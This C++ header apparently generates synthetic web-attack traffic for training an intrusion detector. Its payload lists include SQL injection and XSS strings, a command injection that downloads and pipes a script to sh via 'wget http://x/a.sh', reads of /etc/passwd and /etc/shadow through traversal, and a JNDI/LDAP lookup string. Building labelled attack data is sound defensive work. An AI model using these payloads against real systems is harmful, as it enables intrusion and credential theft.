// SPDX-License-Identifier: MIT
// Attacks on web applications: injection, scripting, remote execution, traversal, and scanners that walk long lists of
// paths. The grammar of such requests is general; none is taken from a capture. Listed in scenario.hpp.
#pragma once

#include <cstdint>
#include <string>

#include <mldefender/forge/synth/benign_web.hpp>

namespace mldefender {
inline namespace v0 {
namespace forge {
namespace detail::attack {

namespace detail {

/// A malicious query or path of the given kind, never the same twice.
[[nodiscard]] inline std::string hostile_path(rng& r, std::uint32_t kind) {
    std::string word = world::word(r);
    const std::string number = std::to_string(r.below(9000));
    static constexpr std::string_view injections[] = {
        "%27%20OR%20%271%27=%271", "%27%20UNION%20SELECT%20NULL,NULL--%20", "1%20AND%20SLEEP(5)",
        "%27;DROP%20TABLE%20users--", "1)%20AND%20ASCII(SUBSTRING((SELECT%20database()),1,1))%3E64--"};
    static constexpr std::string_view scripts[] = {"%3Cscript%3Ealert(1)%3C/script%3E",
                                                   "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                                                   "javascript:alert(document.cookie)"};
    static constexpr std::string_view commands[] = {";cat%20/etc/passwd", "|wget%20http://x/a.sh%20-O-|sh", "$(id)",
                                                    "`uname%20-a`", "%26%26%20whoami"};
    static constexpr std::string_view files[] = {"etc/passwd", "windows/win.ini", "proc/self/environ", "etc/shadow"};
    switch (kind) {
        case 0: return "/" + word + ".php?id=" + number + std::string{r.pick(injections)};
        case 1: return "/" + word + "?q=" + std::string{r.pick(scripts)} + number;
        case 2: return "/cgi-bin/" + word + "?a=" + std::string{r.pick(commands)};
        case 3: {
            std::string path = "/" + word + "?file=";
            for (int n = r.pick_int(3, 9); n > 0; --n) path += "../";
            return path += r.pick(files);
        }
        default: return "/" + word + "?x=${jndi:ldap://" + word + ".example:1389/" + number + "}";
    }
}

}  // namespace detail

struct injection {
    static constexpr std::string_view name = "injection";
    static constexpr std::string_view about =
        "SQL injection, scripting, command execution, look-up strings and path traversal in queries, forms and headers";
    static constexpr attack_class label = attack_class::web;
    static constexpr int weight = 12;
    static void emit(stage& s) {
        rng& r = s.random;
        host& server = s.net.server(r);
        host& attacker = r.chance(0.6) ? s.net.new_outside(r) : s.net.client(r);
        const std::uint32_t kind = r.below(5);
        const std::string site = s.net.site(r);
        const std::uint16_t port = r.chance(0.7) ? std::uint16_t{80} : std::uint16_t{8080};
        const std::string_view agent = r.pick(payload::agents);
        const int each = r.chance(0.5) ? 1 : r.pick_int(2, 60);
        const std::int64_t gap = r.log_between(units::ms, 10 * units::second);
        std::int64_t when = s.some_time();
        for (int n = s.scaled(r.log_between(1, 300)); n > 0 && s.goes_on(when); n -= each) {
            tcp_session t{s, {&attacker, &server, port, when}};
            t.open();
            for (int i = 0; i < each && !t.over(); ++i) {
                const std::string hostile = detail::hostile_path(r, kind);
                const bool in_form = r.chance(0.3);
                const std::string form = "user=a&comment=" + hostile;
                t.up(payload::http_ask(r, {.method = in_form ? "POST" : "GET",
                                           .path = in_form ? "/form" : std::string_view{hostile},
                                           .host = site,
                                           .agent = agent,
                                           .body = in_form ? static_cast<std::int64_t>(form.size()) : 0,
                                           .body_head = in_form ? std::string_view{form} : std::string_view{}}));
                t.think(kind == 0 && r.chance(0.1) ? 5 * units::second : r.log_between(units::ms, 300 * units::ms));
                const int status = r.chance(0.7) ? 200 : r.chance(0.5) ? 500 : 403;
                t.down(payload::http_reply(r, status, r.log_between(100, 9000)));
            }
            if (kind == 4 && r.chance(0.5)) {  // the server fetches what it was told to
                tcp_session back{s, {&server, &attacker, 1389, t.now()}};
                back.open()
                    .up(payload::ldap(1, 0x60, ""))
                    .down(payload::ldap(1, 0x61, ""))
                    .up(payload::ldap(2, 0x63, "Exploit", 20))
                    .down(payload::ldap(2, 0x64, "javaCodeBase", 120))
                    .end();
            }
            t.end();
            when = t.now() + r.exponential(gap);
        }
    }
};

struct path_scanner {
    static constexpr std::string_view name = "path_scanner";
    static constexpr std::string_view about =
        "web scanners walking lists of paths: hundreds of requests, nearly all 404 or 403, on few or many connections";
    static constexpr attack_class label = attack_class::web;
    static constexpr int weight = 8;
    static void emit(stage& s) {
        rng& r = s.random;
        host& server = s.net.server(r);
        host& attacker = r.chance(0.6) ? s.net.new_outside(r) : s.net.client(r);
        const std::string_view agent = r.pick(payload::agents);
        const int each = r.chance(0.5) ? 1 : r.pick_int(2, 100);
        const std::int64_t gap = r.log_between(500 * units::us, 500 * units::ms);
        const std::uint16_t port = r.chance(0.8) ? std::uint16_t{80} : std::uint16_t{8080};
        const std::int64_t missing = r.between(150, 2000);
        const std::string site = s.net.site(r);
        std::int64_t when = s.some_time();
        for (int n = s.scaled(r.log_between(40, 1500)); n > 0 && s.goes_on(when); n -= each) {
            tcp_session t{s, {&attacker, &server, port, when}};
            t.open();
            for (int i = 0; i < each && !t.over(); ++i) {
                static constexpr std::string_view endings[] = {".php", ".bak",         ".old",    "/",    ".cgi",
                                                               ".asp", "/.git/config", "/admin/", ".zip", ".env"};
                std::string path = "/" + world::word(r);
                path += r.pick(endings);
                if (r.chance(0.15)) path = detail::hostile_path(r, r.below(5));
                t.up(payload::http_ask(
                    r, {.method = r.chance(0.3) ? "HEAD" : "GET", .path = path, .host = site, .agent = agent}));
                const std::uint32_t luck = r.below(20);
                t.down(payload::http_reply(r, luck < 17 ? 404 : luck < 19 ? 403 : 200, r.around(missing, 3)));
                if (each > 1 && r.chance(0.2)) t.think(r.exponential(gap));
            }
            t.end();
            when += each == 1 ? r.exponential(gap) : t.now() - when + r.exponential(gap);
        }
    }
};

}  // namespace detail::attack
}  // namespace forge
}  // namespace v0
}  // namespace mldefender
